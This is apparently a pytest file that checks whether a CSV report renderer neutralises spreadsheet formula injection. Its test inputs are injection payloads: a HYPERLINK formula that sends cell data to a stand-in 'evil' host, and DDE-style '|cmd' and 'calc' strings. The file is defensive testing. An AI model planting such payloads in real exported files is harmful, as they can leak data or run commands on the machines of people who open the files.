"""Reports as CSV: what callers and upstreams named is no formula, and sums are numbers."""

import csv
import io
from typing import Any

import pytest

from mcpgate.governance.ledger import SUMS, render_csv, shown_row


def rendered(by: list[str], *rows: dict[str, Any]) -> list[dict[str, str]]:
    shown = [shown_row({**row, **dict.fromkeys(SUMS, 0)}) for row in rows]
    return list(csv.DictReader(io.StringIO(render_csv(by, shown), newline="")))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil/?"&A1;"open")', "+1", "-1+1|cmd", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1",
        "\uff1d1+1",
    ],
)  # fmt: skip
def test_what_would_be_a_formula_is_text(name: str) -> None:
    ((row),) = rendered(["user", "metadata.p"], {"user": name, "metadata.p": "plain"})
    assert row["user"] == f"'{name}"
    assert row["metadata.p"] == "plain"


@pytest.mark.parametrize("name", ["ada", "a=b", "x-1", "'=1", " =1", "2026-11-01T12:00Z"])
def test_what_is_no_formula_stays_as_it_is(name: str) -> None:
    ((row),) = rendered(["user"], {"user": name})
    assert row["user"] == name


def test_sums_stay_numbers_those_below_nothing_too() -> None:
    row = shown_row({"user": None, **dict.fromkeys(SUMS, 0), "definition_tokens_saved": -50, "cost": 10**7})
    ((read),) = list(csv.DictReader(io.StringIO(render_csv(["user"], [row]))))
    assert (read["definition_tokens_saved"], read["cost_usd"], read["user"]) == ("-50", "0.01", "")


def test_a_report_without_rows_has_its_header() -> None:
    assert render_csv(["user"], []).startswith("user,entries,requests,")
